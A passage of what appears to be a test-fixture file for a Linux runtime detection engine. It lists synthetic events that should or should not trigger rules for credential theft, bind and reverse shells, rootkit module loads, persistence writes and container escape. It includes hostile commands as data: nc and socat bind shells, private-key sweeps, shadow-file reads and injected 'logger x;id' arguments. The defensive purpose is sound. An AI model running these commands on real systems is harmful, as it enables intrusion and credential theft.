    exe(10902, 1, "/usr/bin/dockerd", ["dockerd"], uid=0, cgroup="/system.slice/docker.service"),
    exe(10903, 10902, "/usr/sbin/xtables-nft-multi", ["iptables", "--wait", "-t", "nat", "-F", "DOCKER"], uid=0,
        comm="iptables", cgroup="/system.slice/docker.service"),
    # a package upgrade stops the service it replaces
    exe(10904, 1000, "/usr/bin/dpkg", ["dpkg", "-i", "auditd.deb"], uid=0),
    exe(10905, 10904, "/usr/bin/systemctl", ["systemctl", "stop", "auditd.service"], uid=0),
]

# ---------------------------------------------------------------- credential_access
R["credential_access.fire"] = [
    exe(11002, 1000, "/usr/sbin/john", ["john", "hashes.txt"]),
    exe(11003, 1000, "/usr/bin/find", ["find", "/", "-name", "id_rsa", "-o", "-name", "*.pem"]),
    exe(11004, 1000, "/usr/bin/grep", ["grep", "-rl", "BEGIN RSA PRIVATE KEY", "/home"]),
]
R["credential_access.miss"] = [
    exe(11100, 1000, "/usr/bin/cat", ["cat", "/etc/passwd"]),
    exe(11101, 1000, "/usr/bin/passwd", ["passwd"]),
    exe(11102, 1000, "/usr/bin/cat", ["cat", "/home/u/.ssh/id_rsa.pub"]),
    exe(11103, 1000, "/usr/bin/tar", ["tar", "czf", "/backup/etc.tgz", "/etc"], uid=0),
    exe(11104, 1000, "/usr/bin/find", ["find", ".", "-name", "*.c"]),
    exe(11105, 1000, "/usr/bin/grep", ["grep", "-rn", "password_hash", "src/"]),
    exe(11106, 1000, "/usr/bin/grep", ["grep", "PRIVATE KEY", "notes.txt"]),
]

# ---------------------------------------------------------------- k8s_api_from_container
R["k8s_api_from_container.fire"] = [
    in_pod(exe(11200, 10199, "/usr/bin/curl", ["curl", "-k", "https://10.0.0.10:10250/pods"], uid=0)),
    in_pod(conn(11200, 10199, "/usr/bin/curl", "10.0.0.10", 10250, uid=0)),
]
R["k8s_api_from_container.miss"] = [
    in_pod(exe(11300, 10199, "/usr/bin/curl", ["curl", "https://kubernetes.default"], uid=0)),
    in_pod(conn(11300, 10199, "/usr/bin/curl", "10.96.0.1", 443, uid=0)),
    exe(11301, 1000, "/usr/bin/curl", ["curl", "-k", "https://10.0.0.10:10250/healthz"]),
    conn(11301, 1000, "/usr/bin/curl", "10.0.0.10", 10250),
    in_pod(exe(11302, 10199, "/usr/local/bin/kube-apiserver", ["kube-apiserver"], uid=0)),
    in_pod(conn(11302, 10199, "/usr/local/bin/kube-apiserver", "127.0.0.1", 2379, uid=0)),
]

# ---------------------------------------------------------------- hidden_exec
R["hidden_exec.fire"] = [
    exe(11400, 1000, "/home/u/.config/.sysd/updater", ["updater"]),
    exe(11401, 1000, "/var/lib/.x/bot", ["bot"], uid=0),
]
R["hidden_exec.miss"] = [
    exe(11500, 1000, "/home/u/.local/bin/black", ["black", "."]),
    exe(11501, 1000, "/home/u/.cargo/bin/rg", ["rg", "foo"]),
    exe(11502, 1000, "/root/.vscode-server/bin/abc123/node", ["node"], uid=0),
]

# ---------------------------------------------------------------- kernel_module_load
R["kernel_module_load.fire"] = [
    exe(11600, 1000, "/usr/bin/kmod", ["insmod", "/tmp/diamorphine.ko"], uid=0, comm="insmod",
        filename="/usr/sbin/insmod"),
]
R["kernel_module_load.miss"] = [
    exe(11700, 1000, "/usr/bin/kmod", ["modprobe", "nf_conntrack"], uid=0, filename="/usr/sbin/modprobe"),
    exe(11701, 1000, "/usr/bin/kmod", ["insmod", "/lib/modules/6.1.0/extra/foo.ko"], uid=0,
        filename="/usr/sbin/insmod"),
    # DKMS (a bash script) loading what it built for a user's kernel tree
    exe(11710, 1, "/usr/bin/bash", ["/bin/bash", "/usr/sbin/dkms", "install", "foo/1.0"], uid=0, comm="dkms",
        cgroup="/system.slice/dkms.service",
        filename="/usr/sbin/dkms"),
    fork(11711, 11710, "/usr/bin/bash", uid=0, comm="dkms"),
    exe(11711, 11710, "/usr/bin/kmod", ["modprobe", "-d", "/home/u/kernel", "foo"], uid=0,
        filename="/sbin/modprobe"),
]

# ---------------------------------------------------------------- privilege_escalation_shell
R["privilege_escalation_shell.fire"] = [
    # PwnKit: pkexec, run by the user, ends up executing a root shell itself
    fork(11800, 1000, "/usr/bin/bash"),
    exe(11800, 1000, "/usr/bin/pkexec", ["pkexec"], exe_setuid=True),
    exe(11800, 1000, "/usr/bin/dash", ["sh"], uid=0, comm="sh"),
]
R["privilege_escalation_shell.miss"] = [
    fork(11900, 1000, "/usr/bin/bash"),
    exe(11900, 1000, "/usr/bin/sudo", ["sudo", "-i"], exe_setuid=True),
    fork(11901, 11900, "/usr/bin/sudo", uid=0),
    exe(11901, 11900, "/usr/bin/bash", ["-bash"], uid=0, comm="bash"),
    fork(11910, 1000, "/usr/bin/bash"),
    exe(11910, 1000, "/usr/bin/su", ["su", "-"], exe_setuid=True),
    fork(11911, 11910, "/usr/bin/su"),
    exe(11911, 11910, "/usr/bin/bash", ["-bash"], uid=0, comm="bash"),
    # root's own shells
    fork(11920, 500, "/usr/sbin/sshd", uid=0),
    exe(11920, 500, "/usr/bin/bash", ["-bash"], uid=0, comm="bash"),
]

# ---------------------------------------------------------------- issue 16 (appended: earlier files keep their times)
# ptrace writes into one's own child; the kernel's relation at the call over a stale table
R["injection_ptrace_child.fire"] = [
    exe(5000, 1000, "/usr/bin/python3.11", ["python3", "inject.py"], comm="python3"),
    fork(5010, 5000, "/usr/bin/python3.11", comm="python3"),
    ev("ptrace", 5000, 1000, "/usr/bin/python3.11", ptrace_request="PTRACE_POKEDATA", target_pid=5010,
       target_ppid=5000, target_is_child=True, target_is_parent=False),
]
R["injection_ptrace_child.miss"] = [
    # gdb runs its program: TRACEME in the child, then the parent's requests are reads and resumes
    exe(6000, 1000, "/usr/bin/gdb", ["gdb", "./a.out"]),
    fork(6001, 6000, "/usr/bin/gdb"),
    ev("ptrace", 6001, 6000, "/usr/bin/gdb", ptrace_request="PTRACE_TRACEME", target_pid=0),
    ev("ptrace", 6000, 1000, "/usr/bin/gdb", ptrace_request="PTRACE_SEIZE", target_pid=6001,
       target_ppid=6000, target_is_child=True, target_is_parent=False),
]
R["injection_ptrace_stale.fire"] = [
    # double fork: 5020 was reparented away; a table that still names 5000 its parent is stale
    exe(5000, 1000, "/usr/bin/python3.11", ["python3", "inject.py"], comm="python3"),
    ev("ptrace", 5000, 1000, "/usr/bin/python3.11", ptrace_request="PTRACE_ATTACH", target_pid=5020,
       target_ppid=5000, target_is_child=False, target_is_parent=False),
]
R["injection_ptrace_stale.miss"] = [
    # adopted by the subreaper 5000 after its middle process exited: the kernel says child
    exe(5000, 1000, "/usr/bin/python3.11", ["python3", "supervise.py"], comm="python3"),
    ev("ptrace", 5000, 1000, "/usr/bin/python3.11", ptrace_request="PTRACE_SEIZE", target_pid=5030,
       target_ppid=5025, target_is_child=True, target_is_parent=False),
]
# a shell started through the dynamic loader or as a busybox applet, on a socket
R["reverse_shell_indirect.fire"] = [
    exe(2800, 1000, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
        ["/lib64/ld-linux-x86-64.so.2", "/bin/bash", "-i"], comm="ld-linux-x86-64",
        filename="/lib64/ld-linux-x86-64.so.2", stdin_socket=True, stdin_peer=peer()),
]
R["reverse_shell_indirect.miss"] = [
    # the loader running a non-shell on a socket, busybox running a non-shell applet on a socket
    exe(2810, 1000, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
        ["/lib64/ld-linux-x86-64.so.2", "/usr/bin/cat"], comm="ld-linux-x86-64",
        filename="/lib64/ld-linux-x86-64.so.2", stdin_socket=True, stdin_peer=peer()),
    exe(2820, 1000, "/usr/bin/busybox", ["busybox", "cat"], stdin_socket=True, stdin_peer=peer()),
]
R["reverse_shell_busybox.fire"] = [
    exe(2830, 1000, "/usr/bin/busybox", ["sh", "-i"], comm="sh", filename="/bin/sh", stdin_socket=True,
        stdin_peer=peer()),
]
R["reverse_shell_busybox.miss"] = [
    # busybox sh on a terminal
    exe(2840, 1000, "/usr/bin/busybox", ["busybox", "sh"]),
]

# extra recordings of a rule: file prefix -> the rule they exercise
RULE_OF = {"injection_ptrace_child": "injection_attempt", "injection_ptrace_stale": "injection_attempt",
           "reverse_shell_indirect": "reverse_shell", "reverse_shell_busybox": "reverse_shell"}

# ---------------------------------------------------------------- exceptions that key on what the kernel resolved
# Each <rule>.fire-<case> file holds one bypass of an exception that used to key on comm, a basename or a
# loose glob; each must fire on its own. The legitimate cases the exceptions are for are in the .miss files.
SH = "/usr/bin/dash"
R["suspicious_exec.fire-conftest"] = [   # a payload named conftest under a shell, no build tool above
    exe(12000, 1000, SH, ["/bin/sh", "-c", "./conftest"], comm="sh", cwd="/tmp/b", filename="/bin/sh"),
    fork(12001, 12000, SH, comm="sh"),
    exe(12001, 12000, "/tmp/b/conftest", ["./conftest"], filename="./conftest", cwd="/tmp/b"),
]
R["suspicious_exec.fire-configure"] = [  # a script run as .../configure from /tmp
    exe(12010, 1000, SH, ["/bin/sh", "./configure"], comm="configure", cwd="/tmp/b", filename="/tmp/b/configure"),
]
R["suspicious_exec.fire-pip-symlink"] = [  # /var/lib/x/pip -> /bin/sh (comm "pip") runs a payload in /tmp
    exe(12020, 1000, SH, ["/var/lib/x/pip", "-c", "/tmp/p"], comm="pip", filename="/var/lib/x/pip"),
    fork(12021, 12020, SH, comm="pip"),
    exe(12021, 12020, "/tmp/p", ["/tmp/p"]),
]
R["suspicious_exec.fire-go-copy"] = [  # a copy of sh named go (exe_base "go") runs a payload in /tmp
    exe(12030, 1000, "/var/lib/x/go", ["go", "-c", "/tmp/p"]),
    fork(12031, 12030, "/var/lib/x/go"),
    exe(12031, 12030, "/tmp/p", ["/tmp/p"]),
]
R["suspicious_exec.fire-runc-name"] = [  # a memfd named runc_cloned exec'd by something that is not runc
    exe(12040, 1000, "/usr/bin/python3.11", ["python3", "x.py"], comm="python3", filename="/usr/bin/python3"),
    exe(12040, 1000, "/memfd:runc_cloned:/proc/self/exe (deleted)", ["runc"], filename="/proc/self/fd/3",
        exe_memfd=True),
]
for i, d in enumerate(["/run/user/1000", "/run/lock", "/var/crash", "/dev/mqueue", "/var/lock"]):
    R["suspicious_exec.fire-tmpdir%d" % i] = [exe(12100 + i, 1000, d + "/x", ["./x"], filename="./x", cwd=d)]
R["webshell_spawn.fire-sendmail-comment"] = [
    exe(12200, 1, "/usr/sbin/php-fpm8.2", ["php-fpm: pool www"], uid=33, cgroup="/system.slice/php8.2-fpm.service"),
    fork(12201, 12200, "/usr/sbin/php-fpm8.2", uid=33),
    exe(12201, 12200, SH, ["sh", "-c", "id # sh -c /usr/sbin/sendmail -t -i"], uid=33, comm="sh", filename="/bin/sh"),
]
R["webshell_spawn.fire-logger-inject"] = [
    exe(12210, 1, "/usr/sbin/apache2", ["/usr/sbin/apache2", "-k", "start"], uid=0, cgroup="/system.slice/apache2.service"),
    fork(12211, 12210, "/usr/sbin/apache2", uid=33),
    exe(12211, 12210, SH, ["/bin/sh", "-c", "/usr/bin/logger x;id"], uid=33, comm="sh", filename="/bin/sh"),
]
R["webshell_spawn.fire-logger-subst"] = [
    exe(12220, 1, "/usr/sbin/apache2", ["/usr/sbin/apache2", "-k", "start"], uid=0, cgroup="/system.slice/apache2.service"),
    fork(12221, 12220, "/usr/sbin/apache2", uid=33),
    exe(12221, 12220, SH, ["/bin/sh", "-c", "/usr/bin/logger $(id)"], uid=33, comm="sh", filename="/bin/sh"),
]
R["cloud_metadata_access.fire-prctl"] = [  # python renamed itself cloud-init (prctl PR_SET_NAME)
    exe(12300, 1000, "/usr/bin/python3.11", ["python3", "steal.py"], comm="python3", filename="/usr/bin/python3"),
    conn(12300, 1000, "/usr/bin/python3.11", "169.254.169.254", 80, comm="cloud-init"),
]
R["cloud_metadata_access.fire-child-comm"] = [  # a parent named cloud-init by comm only
    exe(12310, 1000, SH, ["cloud-init"], comm="cloud-init", filename="/var/lib/x/cloud-init"),
    fork(12311, 12310, SH, comm="cloud-init"),
    exe(12311, 12310, "/usr/bin/curl", ["curl", "http://169.254.169.254/"]),
    conn(12311, 12310, "/usr/bin/curl", "169.254.169.254", 80),
]
R["cloud_metadata_access.miss-userdata"] = [  # a user-data script cloud-init runs
    exe(12320, 1, "/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/cloud-init", "modules"], uid=0,
        comm="cloud-init", filename="/usr/bin/cloud-init", cgroup="/system.slice/cloud-final.service"),
    fork(12321, 12320, "/usr/bin/python3.11", uid=0, comm="cloud-init"),
    exe(12321, 12320, SH, ["/bin/sh", "/var/lib/cloud/instance/scripts/part-001"], uid=0,
        filename="/var/lib/cloud/instance/scripts/part-001", cgroup="/system.slice/cloud-final.service"),
    fork(12322, 12321, SH, uid=0),
    exe(12322, 12321, "/usr/bin/curl", ["curl", "http://169.254.169.254/latest/meta-data/instance-id"], uid=0,
        cgroup="/system.slice/cloud-final.service"),
    conn(12322, 12321, "/usr/bin/curl", "169.254.169.254", 80, uid=0, cgroup="/system.slice/cloud-final.service"),
]
R["k8s_api_from_container.fire-kubelet-name"] = [
    in_pod(exe(12400, 10199, "/app/kubelet", ["kubelet"], uid=0)),
    in_pod(conn(12400, 10199, "/app/kubelet", "10.0.0.10", 10250, uid=0)),
]
R["kernel_module_load.fire-dkms-name"] = [  # a parent named dkms (comm and basename), not /usr/sbin/dkms
    exe(12500, 1000, "/var/lib/x/dkms", ["dkms"], uid=0),
    fork(12501, 12500, "/var/lib/x/dkms", uid=0),
    exe(12501, 12500, "/usr/bin/kmod", ["insmod", "/tmp/rk.ko"], uid=0, comm="insmod", filename="/sbin/insmod"),
]
R["privilege_escalation_shell.fire-sudo-name"] = [  # a user's binary named sudo execs a root shell
    exe(12600, 1000, "/home/u/bin/sudo", ["sudo"], comm="sudo", exe_setuid=True),  # a planted set-user-ID wrapper
    fork(12601, 12600, "/home/u/bin/sudo"),
    exe(12601, 12600, "/usr/bin/bash", ["bash"], uid=0),
]
R["reverse_shell.fire-init-name"] = [  # a relay named init serving a program on both stdio ends
    exe(12700, 1000, "/var/lib/x/init", ["init"], comm="init"),
    fork(12701, 12700, "/var/lib/x/init"),
    exe(12701, 12700, "/var/lib/x/kw", ["kw"], stdin_socket=True, stdout_socket=True,
        stdin_peer=peer(addr="203.0.113.5", port=443), stdout_peer=peer(addr="203.0.113.5", port=443)),
]
R["reverse_shell.miss-superserver"] = [  # systemd Accept=yes service
    fork(12710, 1, "/usr/lib/systemd/systemd", uid=0),
    exe(12710, 1, "/usr/sbin/in.tftpd", ["in.tftpd"], uid=0, cgroup="/system.slice/x@0.service",
        stdin_socket=True, stdout_socket=True, stdin_peer=peer(addr="192.0.2.1", port=5000),
        stdout_peer=peer(addr="192.0.2.1", port=5000)),
]
R["injection_attempt.fire-memfd-sealing"] = [  # MFD_ALLOW_SEALING passed, never sealed: no longer exempt
    exe(12800, 1000, "/usr/bin/python3.11", ["python3", "stage.py"], comm="python3"),
    ev("memfd_create", 12800, 1000, "/usr/bin/python3.11", memfd_name="x",
       memfd_flags=["MFD_CLOEXEC", "MFD_ALLOW_SEALING"]),
]
R["injection_attempt.fire-memfd-runc-name"] = [
    exe(12810, 1000, "/var/lib/x/runc", ["runc"]),
    ev("memfd_create", 12810, 1000, "/var/lib/x/runc", memfd_name="runc_cloned:/proc/self/exe",
       memfd_flags=["MFD_CLOEXEC", "MFD_ALLOW_SEALING"]),
]
R["injection_attempt.fire-jit-copy"] = [  # node copied out of its install: not a JIT runtime by path
    exe(12820, 1000, "/home/u/node", ["node"]),
    ev("mprotect", 12820, 1000, "/home/u/node", prot=["PROT_READ", "PROT_EXEC"], addr=140000000000,
       len=4096, vma_anon=True, vma_write=True, vma_exec=False),
]
JITS = ["/home/u/.nvm/versions/node/v20.11.0/bin/node", "/home/u/.volta/tools/image/node/20.11.0/bin/node",
        "/home/u/.deno/bin/deno", "/home/u/.bun/bin/bun", "/usr/local/openjdk-17/bin/java",
        "/home/u/.sdkman/candidates/java/21.0.2-tem/bin/java", "/home/u/.dotnet/dotnet",
        "/usr/local/openresty/nginx/sbin/nginx", "/usr/lib/erlang/erts-13.1.5/bin/beam.smp",
        "/usr/lib/postgresql/15/bin/postgres", "/opt/Signal/signal-desktop"]
R["injection_attempt.miss-jit"] = []
for i, j in enumerate(JITS):
    R["injection_attempt.miss-jit"] += [
        exe(12900 + i, 1000, j, [os.path.basename(j)]),
        ev("mprotect", 12900 + i, 1000, j, prot=["PROT_READ", "PROT_EXEC"], addr=140000000000, len=4096,
           vma_anon=True, vma_write=True, vma_exec=False),
        ev("mmap", 12900 + i, 1000, j, prot=["PROT_READ", "PROT_WRITE", "PROT_EXEC"],
           flags=["MAP_PRIVATE", "MAP_ANONYMOUS"], fd=-1, addr=140000000000, len=4096)]
R["injection_attempt.miss-jit"] += [  # a memfd created no-exec (kernel-enforced)
    ev("memfd_create", 12900, 1000, JITS[0], memfd_name="x", memfd_flags=["MFD_CLOEXEC", "MFD_NOEXEC_SEAL"])]
R["hidden_exec.fire-plugin-path"] = [  # a docker plugin path, or a terraform provider path, run by a shell
    exe(13000, 1000, "/home/u/.docker/cli-plugins/docker-x", ["docker-x"]),
]
R["hidden_exec.fire-provider-path"] = [
    exe(13010, 1000, "/home/u/p/.terraform/providers/r/h/aws/5.0.0/linux_amd64/terraform-provider-aws_v5",
        ["terraform-provider-aws_v5"]),
]
R["hidden_exec.miss-tools"] = [
    exe(13020, 1000, "/usr/bin/docker", ["docker", "buildx", "ls"]),
    fork(13021, 13020, "/usr/bin/docker"),
    exe(13021, 13020, "/home/u/.docker/cli-plugins/docker-buildx", ["docker-buildx", "buildx", "ls"]),
    exe(13030, 1000, "/usr/bin/terraform", ["terraform", "plan"], cwd="/home/u/p"),
    fork(13031, 13030, "/usr/bin/terraform"),
    exe(13031, 13030, "/home/u/p/.terraform/providers/r/h/aws/5.0.0/linux_amd64/terraform-provider-aws_v5",
        ["terraform-provider-aws_v5"]),
]
R["defense_evasion.fire-upgrade-name"] = [  # a parent named like unattended-upgrades, by comm only
    exe(13100, 1, SH, ["unattended-upgr"], uid=0, cgroup="/system.slice/apt-daily-upgrade.service", comm="unattended-upgr", filename="/var/lib/x/unattended-upgr"),
    fork(13101, 13100, SH, uid=0),
    exe(13101, 13100, "/usr/bin/systemctl", ["systemctl", "stop", "auditd"], uid=0),
]
R["defense_evasion.miss-unattended"] = [
    exe(13110, 1, "/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/unattended-upgrade"], uid=0,
        comm="unattended-upgr", filename="/usr/bin/unattended-upgrade"),
    fork(13111, 13110, "/usr/bin/python3.11", uid=0),
    exe(13111, 13110, "/usr/bin/systemctl", ["systemctl", "stop", "auditd"], uid=0),
]

# a debugger writing into the program it runs (its own child): debugging, not an injection
R["injection_ptrace_debugger.miss"] = [
    exe(6100, 1000, "/usr/bin/gdb", ["gdb", "./a.out"]),
    fork(6101, 6100, "/usr/bin/gdb"),
    ev("ptrace", 6100, 1000, "/usr/bin/gdb", ptrace_request="PTRACE_POKEDATA", target_pid=6101,
       target_ppid=6100, target_is_child=True, target_is_parent=False),
    ev("ptrace", 6100, 1000, "/usr/bin/gdb", ptrace_request="PTRACE_SETREGS", target_pid=6101,
       target_ppid=6100, target_is_child=True, target_is_parent=False),
]
R["injection_ptrace_debugger.fire"] = [
    # the same writes by gdb into a process that is not its child
    exe(6110, 1000, "/usr/bin/gdb", ["gdb", "-p", "6200"]),
    ev("ptrace", 6110, 1000, "/usr/bin/gdb", ptrace_request="PTRACE_POKEDATA", target_pid=6200,
       target_ppid=1, target_is_child=False, target_is_parent=False),
]
RULE_OF["injection_ptrace_debugger"] = "injection_attempt"

# ---------------------------------------------------------------- file events (issue 17)
R["sensitive_file_read.fire"] = [
    # python open(), cat of a private key, base64 of gshadow, a shell reading a pod's service-account token
    exe(12000, 1000, "/usr/bin/python3.11", ["python3", "-c", "open('/etc/shadow').read()"], uid=0),
    fil(12000, 1000, "/etc/shadow", "/usr/bin/python3.11", ["read"], open_flags=524288),
    exe(12001, 1000, "/usr/bin/cat", ["cat", "/root/.ssh/id_ed25519"], uid=0),
    fil(12001, 1000, "/root/.ssh/id_ed25519", "/usr/bin/cat", ["read"]),
    exe(12002, 1000, "/usr/bin/base64", ["base64", "/etc/gshadow"], uid=0),
    fil(12002, 1000, "/etc/gshadow", "/usr/bin/base64", ["read"]),
    in_pod(exe(12003, 12100, "/usr/bin/curl", ["curl", "-H", "@/var/run/secrets/kubernetes.io/serviceaccount/token"])),
    in_pod(fil(12003, 12100, "/var/run/secrets/kubernetes.io/serviceaccount/token", "/usr/bin/curl", ["read"],
               uid=1000)),
]
R["sensitive_file_read.miss"] = [
    fil(500, 1, "/etc/shadow", "/usr/sbin/sshd", ["read"], cgroup="/system.slice/ssh.service"),
    fil(12201, 500, "/etc/shadow", "/usr/sbin/unix_chkpwd", ["read"]),
    fil(12202, 1000, "/etc/shadow", "/usr/bin/sudo", ["read"]),
    fil(12203, 1000, "/home/u/.ssh/id_ed25519", "/usr/bin/ssh", ["read"], uid=1000),
    fil(12204, 1000, "/home/u/.ssh/id_ed25519.pub", "/usr/bin/cat", ["read"], uid=1000),
    # an API client in a pod reads its own token
    in_pod(fil(12205, 12100, "/var/run/secrets/kubernetes.io/serviceaccount/token", "/usr/local/bin/app", ["read"])),
    # the shadow package's postinst runs pwconv under dpkg
    exe(12206, 1000, "/usr/bin/dpkg", ["dpkg", "--configure", "passwd"], uid=0),
    fil(12207, 12206, "/etc/shadow", "/usr/bin/perl", ["read"]),
]
R["persistence_write.fire"] = [
    fil(1000, 500, "/etc/cron.d/update", "/usr/bin/bash", ["write"], open_flags=577, uid=1000),
    exe(12300, 1000, "/usr/bin/mv", ["mv", "/tmp/x.service", "/etc/systemd/system/dbus-helper.service"], uid=0),
    fil(12300, 1000, "/etc/systemd/system/dbus-helper.service", "/usr/bin/mv", ["rename_to"]),
    exe(12301, 1000, "/usr/bin/python3.11", ["python3", "persist.py"], uid=0),
    fil(12301, 1000, "/root/.ssh/authorized_keys", "/usr/bin/python3.11", ["write"], open_flags=1089),
    exe(12302, 1000, "/usr/bin/tee", ["tee", "-a", "/etc/ld.so.preload"], uid=0),
    fil(12302, 1000, "/etc/ld.so.preload", "/usr/bin/tee", ["write"], open_flags=1089),
    fil(1000, 500, "/etc/sudoers.d/90-nopasswd", "/usr/bin/bash", ["write"], open_flags=577, uid=1000),
]
R["persistence_write.miss"] = [
    exe(12400, 1000, "/usr/bin/dpkg", ["dpkg", "-i", "nginx.deb"], uid=0),
    fil(12400, 1000, "/lib/systemd/system/nginx.service", "/usr/bin/dpkg", ["write", "truncate"]),
    fil(12400, 1000, "/etc/cron.d/nginx", "/usr/bin/dpkg", ["rename_to"]),
    exe(12401, 1000, "/usr/bin/crontab", ["crontab", "-e"], uid=1000, exe_setuid=True),
    fil(12401, 1000, "/var/spool/cron/crontabs/u", "/usr/bin/crontab", ["rename_to"], uid=1000),
    fil(12402, 1, "/etc/crontab", "/usr/sbin/cron", ["read"], cgroup="/system.slice/cron.service"),
    fil(12403, 1000, "/root/.ssh/authorized_keys", "/usr/sbin/sshd", ["read"]),
    exe(12404, 1, "/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/cloud-init", "modules"], uid=0,
        filename="/usr/bin/cloud-init", cgroup="/system.slice/cloud-init.service"),
    fil(12404, 1, "/home/admin/.ssh/authorized_keys", "/usr/bin/python3.11", ["write"],
        cgroup="/system.slice/cloud-init.service"),
]
R["injection_attempt.fire-proc-mem"] = [
    # another process's memory written through /proc/PID/mem (no ptrace call at all)
    exe(12500, 1000, "/usr/bin/python3.11", ["python3", "inject.py", "4242"], uid=0),
    fil(12500, 1000, "/proc/4242/mem", "/usr/bin/python3.11", ["read", "write"], target_pid=4242, target_ppid=1),
]
R["injection_attempt.miss-proc-mem"] = [
    # a debugger on the program it runs, and a process patching its own memory
    exe(12600, 1000, "/usr/bin/gdb", ["gdb", "./a.out"]),
    fil(12600, 1000, "/proc/12601/mem", "/usr/bin/gdb", ["read", "write"], target_pid=12601, target_ppid=12600,
        uid=1000),
    fil(1000, 500, "/proc/1000/mem", "/usr/bin/bash", ["read", "write"], target_pid=1000, target_ppid=500, uid=1000),
]

# ---------------------------------------------------------------- kernel-level events (issue 17)
R["kernel_module_load.fire-module-event"] = [
    # a rootkit loader calling finit_module itself, and insmod of an out-of-tree, unsigned module by hand
    ev("module", 13000, 1000, "/tmp/.x/loader", uid=0, module_name="diamorphine", module_taints=12288),
    exe(13001, 1000, "/usr/bin/kmod", ["insmod", "./rk.ko"], uid=0, comm="insmod", cwd="/root"),
    ev("module", 13001, 1000, "/usr/bin/kmod", uid=0, comm="insmod", module_name="rk", module_taints=4096),
]
R["kernel_module_load.miss-module-event"] = [
    # udev loading an in-tree module, modprobe of a signed in-tree module, DKMS's build loading its module
    ev("module", 300, 1, "/usr/lib/systemd/systemd-udevd", uid=0, module_name="snd_hda_intel", module_taints=0,
       cgroup="/system.slice/systemd-udevd.service"),
    exe(13100, 1000, "/usr/bin/kmod", ["modprobe", "br_netfilter"], uid=0, comm="modprobe"),
    ev("module", 13100, 1000, "/usr/bin/kmod", uid=0, comm="modprobe", module_name="br_netfilter", module_taints=0),
    exe(13101, 1, "/usr/bin/bash", ["/usr/sbin/dkms", "autoinstall"], uid=0, filename="/usr/sbin/dkms"),
    exe(13102, 13101, "/usr/bin/kmod", ["modprobe", "nvidia"], uid=0, comm="modprobe"),
    ev("module", 13102, 13101, "/usr/bin/kmod", uid=0, comm="modprobe", module_name="nvidia", module_taints=12289),
]
R["foreign_bpf_load.fire"] = [
    exe(13200, 1000, "/usr/bin/python3.11", ["python3", "load.py"], uid=0),
    ev("bpf_prog", 13200, 1000, "/usr/bin/python3.11", uid=0, bpf_prog_type="kprobe", bpf_prog_name="hide_pid"),
    exe(13201, 1000, "/usr/sbin/bpftool", ["bpftool", "prog", "load", "x.o", "/sys/fs/bpf/x"], uid=0),
    ev("bpf_prog", 13201, 1000, "/usr/sbin/bpftool", uid=0, bpf_prog_type="tracepoint", bpf_prog_name="x"),
]
R["foreign_bpf_load.miss"] = [
    ev("bpf_prog", 1, 0, "/usr/lib/systemd/systemd", uid=0, bpf_prog_type="cgroup_device", bpf_prog_name="sd_devices",
       cgroup="/init.scope"),
    ev("bpf_prog", 13300, 1, "/usr/sbin/runc", uid=0, bpf_prog_type="cgroup_device", bpf_prog_name=""),
    ev("bpf_prog", 13301, 1, "/usr/sbin/rtmond", uid=0, bpf_prog_type="tracepoint", bpf_prog_name="on_exec",
       cgroup="/system.slice/rtmon.service"),
]
R["packet_socket.fire"] = [
    # a sniffer in a pod, and a BPFDoor-style implant run from /dev/shm on the host
    in_pod(exe(13400, 12100, "/usr/sbin/tcpdump", ["tcpdump", "-i", "eth0"], uid=0)),
    in_pod(ev("socket", 13400, 12100, "/usr/sbin/tcpdump", uid=0, family="packet", sock_type="raw", protocol="768")),
    ev("socket", 13401, 1, "/dev/shm/kdmtmpflush", uid=0, comm="udevd", family="packet", sock_type="dgram",
       protocol="2048"),
]
R["packet_socket.miss"] = [
    ev("socket", 13500, 1, "/usr/sbin/dhclient", uid=0, family="packet", sock_type="raw", protocol="768",
       cgroup="/system.slice/ifup@eth0.service"),
    ev("socket", 13501, 1000, "/usr/sbin/tcpdump", uid=0, family="packet", sock_type="raw", protocol="768"),
    in_pod(ev("socket", 13502, 12100, "/usr/bin/ping", uid=0, family="inet", sock_type="raw", protocol="icmp")),
]
R["bind_shell.fire"] = [
    exe(13600, 1000, "/usr/bin/socat", ["socat", "TCP-LISTEN:4444,reuseaddr,fork", "EXEC:/bin/bash"]),
    ev("listen", 13600, 1000, "/usr/bin/socat", family="inet", local_addr="0.0.0.0", local_port=4444),
    exe(13601, 1000, "/usr/bin/nc.traditional", ["nc", "-lvp", "31337", "-e", "/bin/sh"], comm="nc"),
    ev("listen", 13601, 1000, "/usr/bin/nc.traditional", comm="nc", family="inet", local_addr="0.0.0.0",
       local_port=31337),
    ev("listen", 13602, 1000, "/tmp/.cache/svc", comm="svc", family="inet6", local_addr="::", local_port=2222),
]
R["bind_shell.miss"] = [
    exe(13700, 1000, "/usr/bin/python3.11", ["python3", "-m", "http.server", "8000"]),
    ev("listen", 13700, 1000, "/usr/bin/python3.11", family="inet", local_addr="0.0.0.0", local_port=8000),
    ev("listen", 500, 1, "/usr/sbin/sshd", uid=0, family="inet", local_addr="0.0.0.0", local_port=22,
       cgroup="/system.slice/ssh.service"),
    exe(13701, 1000, "/usr/bin/nc.openbsd", ["nc", "-l", "9000"], comm="nc"),
    ev("listen", 13701, 1000, "/usr/bin/nc.openbsd", comm="nc", family="inet", local_addr="0.0.0.0", local_port=9000),
]
R["container_escape.fire-syscalls"] = [
    # the system calls, whatever the program: a python unshare(CLONE_NEWUSER|CLONE_NEWNS), a mount of the
    # host's disk, open_tree, a connection to the docker socket mounted into the pod
    in_pod(exe(13800, 12100, "/usr/bin/python3.11", ["python3", "esc.py"], uid=0)),
    in_pod(ev("namespace", 13800, 12100, "/usr/bin/python3.11", uid=0, ns_op="unshare",
              ns_flags=["CLONE_NEWNS", "CLONE_NEWUSER"])),
    in_pod(ev("mount", 13800, 12100, "/usr/bin/python3.11", uid=0, mount_op="mount", mount_source="/dev/sda1",
              mount_target="/mnt", mount_fstype="ext4", mount_flags=0)),
    in_pod(ev("mount", 13800, 12100, "/usr/bin/python3.11", uid=0, mount_op="open_tree", mount_source="/")),
    in_pod(exe(13801, 12100, "/usr/bin/curl", ["curl", "--unix-socket", "/var/run/docker.sock", "http://x/containers/json"])),
    in_pod(ev("unix_connect", 13801, 12100, "/usr/bin/curl", family="unix", unix_path="/var/run/docker.sock")),
]
R["container_escape.miss-syscalls"] = [
